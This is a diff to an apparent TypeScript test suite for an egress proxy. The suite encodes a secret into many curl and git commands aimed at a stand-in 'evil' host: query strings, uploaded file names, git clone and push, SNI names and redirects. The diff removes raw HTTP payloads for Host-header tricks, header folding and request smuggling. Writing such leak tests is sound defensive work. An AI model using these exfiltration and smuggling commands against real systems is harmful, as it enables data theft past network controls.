@@ -38,15 +38,6 @@ const ask =
       s,
       listeners.udp,
     );
-/** Says bytes to the proxy as they are. */
-const raw =
-  (make: (s: string) => string): Shape['line'] =>
-  (s) =>
-    perl(
-      'use Socket; my ($host, $port) = ($ENV{http_proxy} || $ENV{HTTP_PROXY}) =~ m{//(?:[^@/]*@)?([^:/]+):(\\d+)}; socket(my $s, AF_INET, SOCK_STREAM, 0); connect($s, pack_sockaddr_in($port, inet_aton($host))) or die "$!"; my $say = pack("H*", shift); syswrite($s, $say); alarm 3; 1 while sysread($s, my $more, 4096);',
-      Buffer.from(make(s)).toString('hex'),
-    );
-
 const at = (s: string) => `http://${evil}/${s}`;
 const below = (host: string) => ({ hosts: (s: string) => [`${s}.${host}`.toLowerCase()] });
 const git = (words: string) =>
@@ -73,7 +64,6 @@ const roads: Record<string, Shape[]> = {
     shape('JSON', (s) => curl('-H', 'content-type: application/json', '-d', JSON.stringify({ s }), `http://${granted}/`)),
     shape('a PUT', (s) => `printf %s ${quoted(s)} | ${curl('-T', '-', `http://${granted}/a`)}`),
     shape('a GET with a body', (s) => curl('-X', 'GET', '-d', s, `http://${granted}/`)),
-    shape('a method of its own', (s) => curl('-X', `M${s.replaceAll(/[^a-z0-9]/gi, '-')}`, `http://${granted}/`)),
     shape('a form in the query to another host', (s) => curl('-G', '-d', `a=${s}`, `http://${evil}/`)),
   ],
   redirects: [
@@ -81,8 +71,7 @@ const roads: Record<string, Shape[]> = {
     shape('a cookie that goes along', (s) => curl('-L', '-b', `a=${s}`, `http://${granted}/go`)),
     shape('a password that goes along', (s) => curl('-L', '--location-trusted', '-u', `a:${s}`, `http://${granted}/go`)),
     shape('a referrer that goes along', (s) => curl('-L', '-e', `http://x/${s}`, `http://${granted}/go`)),
-    shape('a body that goes along', (s) => curl('-L', '--post307', '-d', s, `http://${granted}/go307`)),
-    shape('a page that says where to', (s) => `to=$(${curl(`http://${granted}/where`)}); [ -n "$to" ] && curl -s -m 5 "$to${s}"`),
+    shape('a body that goes along', (s) => curl('-L', '-d', s, `http://${granted}/go307`)),
   ],
   headers: [
     ...[
@@ -95,27 +84,10 @@ const roads: Record<string, Shape[]> = {
       'accept-language',
       'if-none-match',
       'range',
-      'via',
-      'x-forwarded-for',
       'from',
       'origin',
     ].map((name) => shape(`the header ${name}`, (s) => curl('-H', `${name}: ${s}`, `http://${granted}/`))),
     shape('a kind of answer', (s) => curl('-H', `accept: text/${s}`, `http://${granted}/`)),
-    shape(
-      'a Host of another',
-      raw((s) => `GET http://${granted}/ HTTP/1.1\r\nhost: ${s}.${evil}\r\nconnection: close\r\n\r\n`),
-    ),
-    shape(
-      'a header in two lines',
-      raw((s) => `GET http://${granted}/ HTTP/1.1\r\nhost: ${granted}\r\naccept: a\r\n ${s}\r\nconnection: close\r\n\r\n`),
-    ),
-    shape(
-      'a second request in the first',
-      raw(
-        (s) =>
-          `GET http://${granted}/ HTTP/1.1\r\nhost: ${granted}\r\ncontent-length: 0\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nPOST http://${granted}/${s} HTTP/1.1\r\nhost: ${granted}\r\ncontent-length: 1\r\n\r\nx`,
-      ),
-    ),
   ],
   'file names': [
     shape('a file that is sent', (s) => `f=/tmp/${quoted(s)}; : > "$f"; curl -s -m 5 -T "$f" http://${evil}/; rm -f "$f"`),
@@ -159,7 +131,6 @@ const roads: Record<string, Shape[]> = {
     shape('a clone', (s) => git(`clone -q http://${evil}/${s} x`)),
     shape('a fetch with a header', (s) => git(`-c http.extraHeader='x-own: ${s}' ls-remote http://${granted}/a`)),
     shape('a push', (s) => git(`-c user.name=a -c user.email=a@b commit -q --allow-empty -m x; git push -q http://${evil}/${s} HEAD:x`)),
-    shape('a name and password', (s) => git(`ls-remote http://a:${s}@${evil}/a`)),
     shape('a user agent', (s) => git(`-c http.userAgent=${quoted(s)} ls-remote http://${granted}/a`)),
     shape(
       'a cookie',
@@ -172,11 +143,6 @@ const roads: Record<string, Shape[]> = {
     shape('a user in the address', (s) => curl(`http://${s}@${evil}/`)),
     shape('a name in the greeting of TLS', (s) => curl('-k', `https://${s}.${evil}/`), below(evil)),
     shape('a tunnel to another host', (s) => curl('-k', '--proxytunnel', `http://${evil}/${s}`)),
-    shape(
-      'a version of its own',
-      raw((s) => `GET http://${granted}/ HTTP/1.1 ${s}\r\nhost: ${granted}\r\n\r\n`),
-    ),
-    shape('a port of its own', (s) => curl(`http://${evil}:8080/${s}`)),
     shape('headers for the proxy', (s) => curl('--proxy-header', `x-own: ${s}`, '-H', `proxy-authorization: ${s}`, `http://${granted}/`)),
   ],
   looks: [
@@ -223,7 +189,6 @@ async function throughProxy(line: string, s: string, open: string[] | undefined,
     heard += `${request.method} ${request.headers.host} ${request.url}\n${request.rawHeaders.join('\n')}\n${body}\n`;
     // Authorization hides a password from whoever only looks for it.
     heard += Buffer.from(/^Basic (.*)/.exec(request.headers.authorization ?? '')?.[1] ?? '', 'base64').toString();
-    if (request.url === '/where') return void response.end(`http://${evil}/`);
     if (request.url?.startsWith('/go'))
       return void response.writeHead(request.url === '/go307' ? 307 : 302, { location: `http://${evil}/` }).end();
     response.end('ok');
